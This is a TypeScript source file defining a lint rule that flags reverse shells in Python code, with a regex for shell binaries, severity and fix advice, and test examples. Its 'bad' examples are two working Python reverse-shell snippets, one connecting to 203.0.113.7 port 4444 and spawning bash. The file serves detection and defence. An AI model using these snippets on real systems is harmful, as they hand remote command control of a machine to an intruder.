import { text } from '../finding.ts';
import type { Node } from '../syntax/ast.ts';
import type { Rule } from './rule.ts';
import { walkCalls } from './support/walk-calls.ts';
import type { FunctionView, ModuleView } from './views.ts';

const SHELL = /["'](?:\/usr)?(?:\/bin\/)?(?:ba|z|da|k)?sh["']|["']cmd(?:\.exe)?["']/;

function report(place: FunctionView | ModuleView) {
  const duplicated = new Set<number>();
  const shells: Node[] = [];
  let first: Node | undefined;
  for (const call of walkCalls(place.node)) {
    const path = place.resolve(call.func);
    if (path === 'os.dup2') {
      const [source, target] = call.args;
      if (source && /\.fileno\(\)/.test(place.sourceOf(source))) {
        if (target?.kind === 'Num') duplicated.add(target.value);
        // `for f in (0, 1, 2): os.dup2(s.fileno(), f)`
        else if (
          /\(\s*0\s*,\s*1\s*,\s*2\s*\)|\[\s*0\s*,\s*1\s*,\s*2\s*\]|range\(3\)/.test(
            place.sourceOf(place.node),
          )
        )
          for (const standard of [0, 1]) duplicated.add(standard);
      }
      first ??= call;
    }
    if (
      /^(?:subprocess\.\w+|pty\.spawn|os\.(?:system|exec\w+|spawn\w+|popen))$/.test(path) &&
      SHELL.test(place.sourceOf(call))
    )
      shells.push(call);
  }
  const connection = first;
  if (!connection || !duplicated.has(0) || !duplicated.has(1)) return undefined;
  return shells.map((shell) => ({
    at: shell,
    message: text`${place.quote(shell)} gives a shell to whoever is at the other end of the socket that ${place.quote(connection)} makes its input and output.`,
  }));
}

export const reverseShell: Rule = {
  id: 'reverse-shell',
  title: 'Reverse shell',
  cwe: [553, 506],
  aspect: 'access',
  kind: 'defect',
  severity: 'critical',
  rows: [22],
  summary:
    'A socket is made the standard input and output (`os.dup2(s.fileno(), 0)` and `1`), and a shell is started on them.',
  why: 'Whoever is at the other end types commands into the machine: this is how intruders keep a way in.',
  fix: 'Remove it. If it came in with a dependency or an account that is not yours, treat the machine as taken over.',
  references: [
    'https://cwe.mitre.org/data/definitions/553.html',
    'https://attack.mitre.org/techniques/T1059/',
  ],
  on: {
    module: (module) =>
      module.text.includes('dup2')
        ? [module, ...module.functions].flatMap((place) => report(place) ?? [])
        : undefined,
  },
  examples: {
    bad: [
      {
        title: 'the usual lines',
        code: `
import os
import socket
import subprocess

def connect(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(['/bin/sh', '-i'])  # report
`,
      },
      {
        title: 'at the top of a module',
        code: `
import os, pty, socket
s = socket.socket()
s.connect(('203.0.113.7', 4444))
[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
pty.spawn('/bin/bash')  # report
`,
      },
    ],
    good: [
      {
        title: 'a daemon that redirects its output to a file',
        code: `
import os
import subprocess

def daemonize(log):
    null = open(os.devnull)
    os.dup2(null.fileno(), 0)
    os.dup2(log.fileno(), 1)
    os.dup2(log.fileno(), 2)
    subprocess.call(['/usr/sbin/service', 'start'])
`,
      },
    ],
  },
};
